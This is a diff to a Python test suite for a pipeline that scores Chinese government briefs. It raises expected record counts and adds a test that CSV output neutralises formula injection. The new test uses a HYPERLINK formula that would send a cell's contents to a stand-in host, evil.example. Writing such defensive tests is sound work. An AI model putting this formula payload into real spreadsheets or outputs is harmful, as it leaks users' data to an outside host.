@@ -45,10 +45,10 @@ def test_output_keeps_input_order_errors_and_duplicates(baseline, archive):
     out, summary = baseline
     rows = list(read_output(out))
     raw = [line for line in archive.read_text(encoding="utf-8").splitlines() if line.strip()]
-    assert len(rows) == len(raw) == summary.total == 597
+    assert len(rows) == len(raw) == summary.total == 1207
     assert rows[40]["error"]["code"] == "invalid_json" and rows[40]["line"] == 41
     assert rows[90]["error"]["code"] == "missing_field" and rows[90]["id"] == "no-unit"
-    assert summary.errors == 2 and summary.scored == 595
+    assert summary.errors == 2 and summary.scored == 1205
     ids = [json.loads(line)["id"] for n, line in enumerate(raw) if n not in (40, 90)]
     assert [r["id"] for r in rows if "error" not in r] == ids
     # The labelled copies are found against the growing archive, and only earlier briefs count.
@@ -151,13 +151,13 @@ def test_killed_run_resumed_equals_uninterrupted(baseline, archive, trained_mode
     proc.wait()
     assert not out.exists() and partial.exists()
     written = partial.read_bytes().count(b"\n")
-    assert 200 <= written < 597
+    assert 200 <= written < 1207
     resumed = _run_cli([*args, "--resume"], trained_model_dir)
     stdout, stderr = resumed.communicate(timeout=600)
     assert resumed.returncode == 2, stderr.decode()  # two bad records in the input
     assert out.read_bytes() == baseline[0].read_bytes()
     text = stderr.decode()
-    assert "共 597 条:评分 595 条,错误 2 条" in text  # the summary counts the part done before the kill
+    assert "共 1207 条:评分 1205 条,错误 2 条" in text  # the summary counts the part done before the kill
     assert not partial.exists()
 
 
@@ -215,7 +215,7 @@ def test_dask_engine_equals_local_engine(baseline, archive, trained_model_dir, c
                                scheduler=cluster.scheduler_address, chunk_size=32)
         assert len(cluster.scheduler_info["workers"]) == 2
     assert out.read_bytes() == baseline[0].read_bytes()
-    assert (summary.scored, summary.errors) == (595, 2)
+    assert (summary.scored, summary.errors) == (1205, 2)
 
 
 class _DyingModel:
@@ -265,3 +265,18 @@ def test_a_dead_worker_stops_the_run_with_a_clear_error_and_resume_completes_it(
     summary = score_stream(archive, out, model=load_model(trained_model_dir), config=config, workers=2, chunk_size=64,
                            resume=True)
     assert summary.resumed_from == written and out.read_bytes() == baseline[0].read_bytes()
+
+
+def test_csv_output_neutralises_formulas_and_keeps_the_review(trained_model_dir, config, tmp_path):
+    """A unit named like a formula is plain text in the CSV; the review JSON keeps it as sent."""
+    from models import load_model
+
+    unit = '=HYPERLINK("http://evil.example/"&A1,"点击")'
+    record = {"id": "f-1", "unit": unit, "title": "", "submitted_at": "2025-06-03T10:00:00",
+              "body": "6月2日,县里召开防汛工作会议,安排部署汛期值班和隐患排查工作。"}
+    (tmp_path / "in.jsonl").write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
+    score_stream(tmp_path / "in.jsonl", tmp_path / "out.csv", model=load_model(trained_model_dir), config=config)
+    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["unit"] == "'" + unit and row["id"] == "f-1"
+    assert [r["unit"] for r in read_output(tmp_path / "out.csv")] == [unit]
